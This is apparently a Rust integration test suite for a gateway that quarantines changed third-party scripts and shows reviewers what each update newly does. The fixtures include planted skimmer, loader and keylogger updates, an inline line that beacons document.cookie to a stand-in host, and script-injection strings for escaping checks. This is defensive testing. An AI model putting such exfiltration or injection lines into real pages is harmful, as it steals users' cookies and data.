//! Ten items wait, three of them attacks: what stands on each page tells which.

use pinfold_integration_tests::{
    Gateway, GatewayBuilder, Reviewer, Rule, Vendor, client, gateway, reviewer, sha256, vendor,
};

use crate::admission::PASSWORD;
use crate::console::with_reviewers;
use crate::verified;

const LIBRARY: &str = include_str!("../../../triage/tests/planted/library.js");

/// An update that a vendor published, and what its page has to say of it.
pub(crate) struct Update {
    pub(crate) path: &'static str,
    pub(crate) script: String,
    /// What a reviewer has to find: nothing of an update that does no harm.
    planted: &'static [&'static str],
    /// What else stands there.
    says: &'static str,
}

fn with(planted: &str) -> String {
    LIBRARY.replace("/* planted */", planted)
}

macro_rules! planted {
    ($name:literal) => {
        with(include_str!(concat!("../../../triage/tests/planted/", $name, ".js")))
    };
}

pub(crate) fn ten() -> [Update; 10] {
    let update = |path, script, planted, says| Update { path, script, planted, says };
    let quiet = "names no new host";
    [
        update(
            "/chat/widget.js",
            planted!("skimmer.hidden"),
            &["names payment card fields", "sends a beacon", "metrics.collect-stats.example", "hidden:"],
            "Code changed",
        ),
        update(
            "/banner.js",
            LIBRARY.replace("2.3.1", "2.3.2"),
            &[],
            "Only comments, whitespace or notation changed",
        ),
        update("/title.js", LIBRARY.replace("Talk to us", "Chat with us"), &[], "Only literals changed"),
        update(
            "/consent.js",
            planted!("loader.hidden"),
            &["adds a script element", "cdn.second-stage.example", "hidden:"],
            "Code changed",
        ),
        update("/names.js", LIBRARY.replace("target", "into"), &[], "Only names of local variables changed"),
        update("/limit.js", LIBRARY.replace(">= this.options.limit", "> this.options.limit"), &[], quiet),
        update(
            "/support.js",
            planted!("keylogger.plain"),
            &["listens to keys", "px.keys.example", "makes an image"],
            "Code changed",
        ),
        update(
            "/once.js",
            with(
                "Emitter.prototype.once = function (type, listener) {\n  var self = this;\n  return this.on(type, function () { \
                  listener.apply(self, arguments); });\n};",
            ),
            &[],
            quiet,
        ),
        update(
            "/typed.js",
            LIBRARY.replace(
                "say: function (text) {",
                "say: function (text) {\n      if (typeof text !== \"string\") throw new \
                                                       TypeError(\"text is no string\");",
            ),
            &[],
            quiet,
        ),
        update("/late.js", LIBRARY.replace("}, left);", "}, Math.max(left, 16));"), &[], quiet),
    ]
}

/// A gateway that has verified the library at each of these places, and then refused an update of it.
pub(crate) async fn with_ten(updates: &[Update]) -> (Vendor, Gateway) {
    let vendor = vendor().listen().await;
    let rule = Rule::default().set("recheck", "always").set("substitute", true);
    let pinned = |gateway: GatewayBuilder, update: &Update| {
        vendor.script(update.path, LIBRARY);
        gateway.pin(vendor.url(update.path), sha256(LIBRARY))
    };
    let built = updates.iter().fold(gateway().rule(&vendor, rule), pinned);
    let gateway = with_reviewers(built).listen().await;
    for update in updates {
        verified(&client(&gateway).get(vendor.url(update.path)).await, LIBRARY);
        vendor.script(update.path, update.script.clone());
        let reply = client(&gateway).get(vendor.url(update.path)).await;
        assert_eq!(reply.verdict().token(), "substituted");
    }
    (vendor, gateway)
}

/// The links of the queue, by what they are about.
pub(crate) async fn queue(ada: &Reviewer<'_>) -> Vec<(String, String)> {
    let shown = ada.open("/quarantine").await.body;
    let rows = shown.split("<h2><a href=\"").skip(1);
    rows.map(|row| {
        let (link, rest) = row.split_once("\">").unwrap();
        (link.to_owned(), rest.split('<').next().unwrap().to_owned())
    })
    .collect()
}

#[tokio::test]
async fn what_is_compared_with_is_what_the_command_compares_with_and_a_decision_leads_to_the_next_item() {
    let (_vendor, gateway) = with_ten(&ten()[..2]).await;
    let mut ada = reviewer(&gateway);
    ada.sign_in("ada", PASSWORD).await;
    let queue = queue(&ada).await;
    let (first, second) = (&queue[0].0, &queue[1].0);
    let page = ada.open(first).await.body;
    assert!(page.contains(&sha256(LIBRARY)) && page.contains(&format!("rel=\"next\" href=\"{second}\"")));
    let incident = first.rsplit('/').next().unwrap();
    let found = gateway.command(&["--json", "quarantine", "diff", incident]).await.success().json();
    assert_eq!(found["verified"]["digest"], sha256(LIBRARY));

    ada.fill(first, &format!("{first}/decide"), &[("act", "reject"), ("reason", "SEC-1")]).await;

    let after = ada.open(first).await.body;
    assert!(after.contains(&format!("<a href=\"{second}\">To the next item that waits")), "{after}");
}

#[tokio::test]
async fn an_item_leads_on_to_what_still_waits_and_to_what_has_come_once_it_is_decided() {
    let updates = ten();
    let (vendor, gateway) = with_ten(&updates[..3]).await;
    let mut ada = reviewer(&gateway);
    ada.sign_in("ada", PASSWORD).await;
    let queue = queue(&ada).await;
    let [first, second, third] = [0, 1, 2].map(|at: usize| queue[at].0.clone());
    let incident = second.rsplit('/').next().unwrap();

    gateway.command(&["quarantine", "reject", incident, "--reason", "SEC-1"]).await.success();

    let page = ada.open(&first).await.body;
    assert!(page.contains(&format!("rel=\"next\" href=\"{third}\"")), "{page}");
    let page = ada.open(&third).await.body;
    assert!(page.contains(&format!("rel=\"prev\" href=\"{first}\"")), "{page}");
    let page = ada.open(&second).await.body;
    assert!(page.contains(&format!("rel=\"next\" href=\"{first}\"")), "of one that waits no more: {page}");

    // What comes now was in no queue that anybody has looked at.
    vendor.script(updates[0].path, "show('another')");
    client(&gateway).get(vendor.url(updates[0].path)).await;
    for item in [&first, &third] {
        ada.fill(item, &format!("{item}/decide"), &[("act", "reject"), ("reason", "SEC-1")]).await;
    }
    let page = ada.open(&third).await.body;
    assert!(page.contains("To the next item that waits"), "{page}");
}

#[tokio::test]
async fn lines_that_differ_by_local_names_alone_are_counted_and_a_link_shows_them() {
    let renamed = LIBRARY
        .replace("var self", "var that")
        .replace("self.", "that.")
        .replace(">= this.options.limit", "> this.options.limit");
    let update = Update { path: "/app.js", script: renamed, planted: &[], says: "Code changed" };
    let (_vendor, gateway) = with_ten(&[update]).await;
    let mut ada = reviewer(&gateway);
    ada.sign_in("ada", PASSWORD).await;
    let link = &queue(&ada).await[0].0;

    let page = ada.open(link).await.body;
    assert!(page.contains("by names of local variables alone, and count as unchanged"), "{page}");
    assert!(page.contains("1 line added") && page.contains("href=\"?names=shown#difference\""), "{page}");
    for said in ["1 client, 1 time in all", "nobody in the last week", "the 1 client that asked here"] {
        assert!(page.contains(said), "{said}: {page}");
    }

    let all = ada.open(&format!("{link}?names=shown")).await.body;
    assert!(!all.contains("1 line added") && all.contains("href=\"?#difference\""), "{all}");
}

#[tokio::test]
async fn a_difference_that_does_not_fit_on_one_page_goes_on_on_the_next_and_facts_link_to_their_part() {
    let long = (0..2500).map(|at| format!("\nplay('tune {at}');")).collect::<String>();
    let script = format!("{LIBRARY}{long}\nnavigator.sendBeacon('https://last.example/', document.cookie);");
    let update = Update { path: "/app.js", script, planted: &[], says: "Code changed" };
    let (_vendor, gateway) = with_ten(&[update]).await;
    let mut ada = reviewer(&gateway);
    ada.sign_in("ada", PASSWORD).await;
    let link = &queue(&ada).await[0].0;
    let opened = async |query: &str| loop {
        let page = ada.open(&format!("{link}{query}")).await.body;
        if !page.contains("data-running") {
            break page;
        }
    };

    let (first, second) = (opened("").await, opened("?part=2").await);

    assert!(first.contains("Part 1 of 2") && first.contains("href=\"?part=2#difference\""), "{first}");
    assert!(first.contains("tune 17") && !first.contains("tune 2499"), "{first}");
    let (beacon, _) = second.rsplit_once("last.example").unwrap();
    let line = beacon.rsplit_once("<code id=\"n").unwrap().1.split_once('"').unwrap().0;
    assert!(first.contains(&format!("href=\"?part=2#n{line}\"")), "{line}: {first}");
    assert!(second.contains("Part 2 of 2") && second.contains("href=\"?#difference\""), "{second}");
    for beyond in ["?part=3", "?part=100000", "?part=18446744073709551615"] {
        let page = opened(beyond).await;
        assert!(page.contains("Part 2 of 2") && page.contains("last.example"), "{beyond}: {page}");
    }
    for wrong in ["?part=-1", "?part=x", "?part=18446744073709551616", "?part=2&part=1"] {
        assert_eq!(ada.open(&format!("{link}{wrong}")).await.status, 400, "{wrong}");
    }
    let incident = link.rsplit('/').next().unwrap();
    let told = gateway.command(&["quarantine", "diff", incident, "--part", "2"]).await.success();
    assert!(told.text().contains("last.example") && told.text().contains("part 2 of 2"), "{}", told.text());
}

#[tokio::test]
async fn a_changed_line_that_is_cut_is_read_whole_in_pieces_whatever_it_holds() {
    let hostile = "</code><script>window.planted=1</script>";
    let text = |end: &str| {
        let words: String = (0..9000).map(|at| format!("word{at} ")).collect();
        format!("say('{words}{hostile}{end}');{LIBRARY}")
    };
    let vendor = vendor().listen().await;
    let (reviewed, new) = (text("one"), text("other"));
    vendor.script("/app.js", reviewed.clone());
    let rule = Rule::default().set("recheck", "always").set("substitute", true);
    let gateway = gateway().rule(&vendor, rule).pin(vendor.url("/app.js"), sha256(&reviewed));
    let gateway = with_reviewers(gateway).listen().await;
    verified(&client(&gateway).get(vendor.url("/app.js")).await, &reviewed);
    vendor.script("/app.js", new);
    client(&gateway).get(vendor.url("/app.js")).await;
    let mut ada = reviewer(&gateway);
    ada.sign_in("ada", PASSWORD).await;
    let item = queue(&ada).await[0].0.clone();
    let page = loop {
        let page = ada.open(&item).await.body;
        if !page.contains("data-running") {
            break page;
        }
    };
    let links: Vec<String> = page
        .split("class=\"whole\" href=\"")
        .skip(1)
        .map(|rest| rest.split('"').next().unwrap().replace("&#38;", "&").replace("&amp;", "&"))
        .collect();
    assert_eq!(links.len(), 2, "the line of either version: {page}");
    let path = |link: &str| link.split('#').next().unwrap().to_owned();

    let there = ada.open(&path(&links[1])).await;

    // It begins where both differ, and either side is there.
    assert!(
        there.body.contains("other</mark>&#39;") && there.body.contains("one</mark>&#39;"),
        "{}",
        there.body
    );
    assert_eq!(there.body.matches("<mark>").count(), 2, "{}", there.body);
    let incident = item.rsplit('/').next().unwrap();
    let (mut read, mut from) = (String::new(), Some("0".to_owned()));
    while let Some(at) = from {
        let shown = ada.open(&format!("/quarantine/{incident}/text?now={at}")).await;
        assert!(shown.status == 200 && shown.body.len() < 200_000, "{}", shown.body.len());
        assert!(!shown.body.contains("<script>"), "{}", shown.body);
        let (_, side) = shown.body.split_once("aria-label=\"This one, from byte").unwrap();
        let code = side.split_once("<code>").unwrap().1;
        read.push_str(code.split_once("</code>").unwrap().0);
        let (_, turn) = shown.body.split_once("Pieces of This one").unwrap();
        let turn = turn.split_once("</nav>").unwrap().0;
        let next = turn.split_once("rel=\"next\" href=\"?then=0&#38;now=");
        from = next.map(|(_, rest)| rest.split('&').next().unwrap().to_owned());
    }
    assert!(
        read.starts_with("say(&#39;word0 word1 ") && read.contains("word8999 &#60;/code&#62;&#60;script"),
        "{read}"
    );
    assert!((1..9000).all(|at| read.contains(&format!(" word{at} "))), "not one word is left out");
    assert_eq!(reviewer(&gateway).open(&path(&links[0])).await.status, 303);
    for (wrong, status) in [("nothing", 404), ("01ARZ3NDEKTSV4RRFFQ69G5FAV", 404)] {
        assert_eq!(ada.open(&format!("/quarantine/{wrong}/text")).await.status, status, "{wrong}");
    }
    for beyond in ["now=0", "now=18446744073709551615&then=99", "is=%22%3E%3Cscript%3E&was=%E2%80%AE"] {
        let shown = ada.open(&format!("/quarantine/{incident}/text?{beyond}")).await;
        assert!(shown.status == 200 && !shown.body.contains("<script>"), "{beyond}: {}", shown.body);
    }
}

#[tokio::test]
async fn what_cannot_be_analysed_is_said_and_without_a_verified_version_all_that_it_does_is_listed() {
    let vendor = vendor().script("/page.js", "no script at all").script("/app.js", LIBRARY).listen().await;
    let gateway = gateway().vendor(&vendor);
    let gateway = ["/page.js", "/app.js"]
        .iter()
        .fold(gateway, |gateway, path| gateway.pin(vendor.url(path), sha256("never served")));
    let gateway = with_reviewers(gateway).listen().await;
    let mut ada = reviewer(&gateway);
    ada.sign_in("ada", PASSWORD).await;
    for (path, says) in [
        ("/page.js", &["Not analysed in full</b> because it is no script"][..]),
        (
            "/app.js",
            &["this is all that it does", "sends or loads with fetch", "href=\"#n", "Where it does so"],
        ),
    ] {
        let reply = client(&gateway).get(vendor.url(path)).await;
        let page = ada.open(&format!("/quarantine/{}", reply.verdict().incident().unwrap())).await.body;
        for said in says {
            assert!(page.contains(said), "{path}: {said}: {page}");
        }
    }
}

#[tokio::test]
async fn of_ten_items_the_pages_of_three_attacks_name_what_they_do_and_those_of_seven_updates_nothing_of_it()
{
    let updates = ten();
    let (vendor, gateway) = with_ten(&updates).await;
    let mut ada = reviewer(&gateway);
    ada.sign_in("ada", PASSWORD).await;
    let queue = queue(&ada).await;
    assert_eq!(queue.len(), updates.len());

    for update in &updates {
        let (link, _) = queue.iter().find(|(_, url)| *url == vendor.url(update.path)).unwrap();
        let page = loop {
            let page = ada.open(link).await.body;
            // What takes longer than a page waits is there when it is loaded again.
            if !page.contains("data-running") {
                break page;
            }
        };
        let triage = page.split_once("id=\"newly\"").unwrap().1.split_once("id=\"facts\"").unwrap().0;
        assert!(triage.contains(update.says), "{}: {triage}", update.path);
        let says_nothing = triage.contains("That does not mean that it is harmless");
        assert_eq!(says_nothing, update.planted.is_empty(), "{}: {triage}", update.path);
        assert_eq!(page.contains(">What it newly does</h2>"), !update.planted.is_empty(), "{}", update.path);
        for planted in update.planted {
            assert!(triage.contains(planted), "{}: no {planted}: {triage}", update.path);
        }
        let all = updates
            .iter()
            .flat_map(|other| other.planted)
            .filter(|planted| !update.planted.contains(planted));
        for other in all {
            assert!(!triage.contains(other), "{}: {other}: {triage}", update.path);
        }
    }
}

#[tokio::test]
async fn the_queue_has_what_newly_does_most_first_and_says_so_whoever_asked_and_how_often() {
    let updates = ten();
    let (vendor, gateway) = with_ten(&updates).await;
    // The most harmless of them is asked for most.
    client(&gateway).get(vendor.url("/banner.js")).await;
    let mut ada = reviewer(&gateway);
    ada.sign_in("ada", PASSWORD).await;
    while ada.open("/quarantine").await.body.contains("data-running") {}

    let rows = queue(&ada).await;

    let attacks: Vec<_> = updates.iter().filter(|update| !update.planted.is_empty()).collect();
    for (_, url) in rows.iter().take(attacks.len()) {
        assert!(attacks.iter().any(|update| vendor.url(update.path) == *url), "{rows:?}");
    }
    let page = ada.open("/quarantine").await.body;
    assert!(page.contains("newly reaches for data, sends or names a host, hides something"), "{page}");
    assert!(page.contains("nothing of weight is new"), "{page}");
    let (first, second) = (&rows[0].0, &rows[1].0);
    let item = ada.open(first).await.body;
    assert!(item.contains(&format!("rel=\"next\" href=\"{second}\"")), "the same order: {item}");
    let (banner, _) = rows.iter().find(|(_, url)| url.ends_with("/banner.js")).unwrap();
    let item = ada.open(banner).await.body;
    let texts = format!("{banner}/text");
    assert!(item.contains("No code differs") && item.contains(&format!("href=\"{texts}\"")), "{item}");
    assert!(ada.open(&texts).await.body.contains("2.3.2"));
}
